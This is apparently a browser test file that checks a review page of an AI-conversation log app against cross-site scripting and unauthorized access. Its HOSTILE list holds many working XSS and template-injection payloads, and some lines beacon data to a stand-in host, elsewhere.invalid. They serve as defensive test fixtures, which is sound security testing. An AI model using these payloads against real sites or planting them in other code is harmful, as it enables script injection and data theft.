"""The review page shows what anybody may have written, to those who may see everything: nothing of it may run, and
nobody else may reach it.
"""

import sqlite3
from collections.abc import Iterator
from contextlib import closing
from urllib.parse import quote

import pytest
from playwright.sync_api import expect

from engine.types import Exchange, Message
from tests.browser.conftest import Visit
from tests.browser.log import audit, write_log
from tests.browser.windows import PICTURE
from tests.server import RunningServer, running_server
from tests.ui.exchanges import exchange

pytestmark = pytest.mark.browser

HOSTILE = [
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg/onload=pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<a href='javascript:pwned()'>click</a>",
    "[click](javascript:pwned())",
    "[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "![beacon](http://elsewhere.invalid/?stolen)",
    "<style>@import 'http://elsewhere.invalid/'; body { display: none }</style>",
    "<form action=http://elsewhere.invalid><input name=password autofocus onfocus=pwned()></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned()&gt;'>",
    "<details open ontoggle=pwned()>",
    "```html\n</code></pre><script>pwned()</script>\n```",
    '```"><script>pwned()</script>\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=pwned()> |",
    "{{ constructor.constructor('pwned()')() }}",
    "${pwned()} `${pwned()}` ${{}}",
    r"$\href{javascript:pwned()}{x} + \text{</math><img src=x onerror=pwned()>}$ and $x^2$",
    '"); pwned(); ("',
    "'; pwned(); '",
    "</script><script>pwned()</script>",
    "\u2028pwned()\u2029",
    '<b v-html="\'<img src=x onerror=pwned()>\'" :onmouseover="pwned()" @click="pwned()">x</b>',
]
HOSTILE_NAME = "<img src=x onerror=pwned()>{{pwned()}}"


# To be run in the page: every attribute in the inbox that could hold a script.
ATTRIBUTES = """() => [...document.querySelectorAll(".inbox *")]
    .flatMap((element) => element.getAttributeNames())
    .filter((name) => /^(on|v-|:|@|style|src)/.test(name))"""
# What nothing in the inbox may be; formulas in answers are MathML that the server made.
FOREIGN = ".inbox :is(script, img, iframe, object, embed, form:not(.inbox-filters), style, math:not(.answer-text *))"

# To be run in a reviewer's page: the message that its browser sends to open an exchange.
OPENING = """() => {
    const isInbox = ([, element]) => element.events.some((event) => event.type === "sent");
    const [id, inbox] = Object.entries(mounted_app.elements).find(isInbox);
    const listener_id = inbox.events.find((event) => event.type === "open").listener_id;
    return { id: Number(id), client_id: window.clientId, listener_id, args: [JSON.stringify({ n: 1, id: "x0" })] };
}"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningServer]:
    """A server whose log holds an attack in every place that people and models can write to."""
    data_dir = tmp_path_factory.mktemp("hostile") / "data"
    write_log(data_dir, [_attack(n, text) for n, text in enumerate(HOSTILE)], names=[HOSTILE_NAME])
    with running_server(data_dir) as running:
        yield running


def _attack(n: int, text: str) -> Exchange:
    said = (Message("system", text), Message("user", text))
    return exchange(
        f"x{n}",
        person=HOSTILE_NAME,
        conversation_id=f"x{n}",
        messages=said,
        answer=text,
        error=text,
        model=text,
        quantization=text,
        after_s=n,
    )


def test_nothing_that_people_or_models_wrote_runs_here(server: RunningServer, visit: Visit) -> None:
    page = visit(server, "/review", name="rita")
    page.evaluate("() => { window.pwned = () => { window.wasPwned = true } }")
    rows = page.locator(".inbox-row")
    expect(rows).to_have_count(len(HOSTILE))
    for n, text in enumerate(HOSTILE):
        page.locator(f"#row-x{n}").click()
        turn = page.locator(f"#turn-x{n}")
        expect(turn.locator(".turn-prompt")).to_have_text(text)
        turn.get_by_role("button", name="Show the exact messages").click()
        expect(turn.locator(".turn-sent li")).to_have_count(2)
        for link in turn.locator(".answer-text a").all():
            assert (link.get_attribute("href") or "").startswith(("http://", "https://", "mailto:"))
        assert page.locator(FOREIGN).count() == 0
        assert page.evaluate(ATTRIBUTES) == []
    page.get_by_label("Person", exact=True).select_option(label=HOSTILE_NAME)
    expect(page.locator(".inbox-who").first).to_have_text(HOSTILE_NAME)
    assert page.evaluate("window.wasPwned") is None


@pytest.mark.parametrize("text", [*HOSTILE[:3], '"><script>pwned()</script>', "{{pwned()}}", "javascript:pwned()"])
def test_an_address_with_an_attack_is_harmless(server: RunningServer, visit: Visit, text: str) -> None:
    page = visit(server, PICTURE, name="rita")
    page.add_init_script("window.pwned = () => { window.wasPwned = true }")
    attack = quote(text)
    page.goto(f"{server.url}/review?text={attack}&person={attack}&status={attack}&open={attack}&{attack}={attack}")
    expect(page.locator(".inbox-notice")).to_contain_text(text)
    expect(page.get_by_role("searchbox")).to_have_value(text)
    assert page.locator(FOREIGN).count() == 0
    assert page.evaluate("window.wasPwned") is None


def test_staff_are_not_shown_the_way_to_the_review_page(server: RunningServer, visit: Visit) -> None:
    page = visit(server, "/account", name="ada")
    expect(page.get_by_role("link", name="Account", exact=True)).to_be_visible()
    expect(page.get_by_role("link", name="Review")).to_have_count(0)


def test_a_page_of_a_reviewer_is_none_for_somebody_elses_socket(server: RunningServer, visit: Visit) -> None:
    """Knowing the page's client id and the inbox's listeners opens nothing to a staff member's socket."""
    reviewer, staff = visit(server, "/review", name="rita"), visit(server, "/", name="ada")
    expect(reviewer.locator(".inbox-row").first).to_be_visible()
    opening = reviewer.evaluate(OPENING)
    before = len(audit(server, "review.open"))
    staff.evaluate(
        "(opening) => new Promise((done) => { window.socket.emit('event', opening); setTimeout(done, 300) })", opening
    )
    assert len(audit(server, "review.open")) == before
    reviewer.evaluate("(opening) => window.socket.emit('event', opening)", opening)  # the same from its owner is heard
    expect(reviewer.locator("body")).to_be_visible()
    reviewer.locator("#row-x1").click()
    expect(reviewer.locator("#turn-x1")).to_be_visible()
    assert [target for _, target, _ in audit(server, "review.open")[before:]] == ["x0", "x1"]


def test_a_page_that_was_open_shows_nothing_more_to_somebody_who_lost_the_role(
    server: RunningServer, visit: Visit
) -> None:
    page = visit(server, "/review", name="other reviewer")
    expect(page.locator(".inbox-row").first).to_be_visible()
    with closing(sqlite3.connect(server.data_dir / "qdesk.db")) as database, database:
        database.execute("update users set role = 'staff' where name = 'other reviewer'")
    # The server looks at the accounts every ten seconds, and leads the page away by itself.
    page.wait_for_url(f"{server.url}/")
    assert page.goto(f"{server.url}/review?open=x0").status == 403  # type: ignore[union-attr]  # it answers
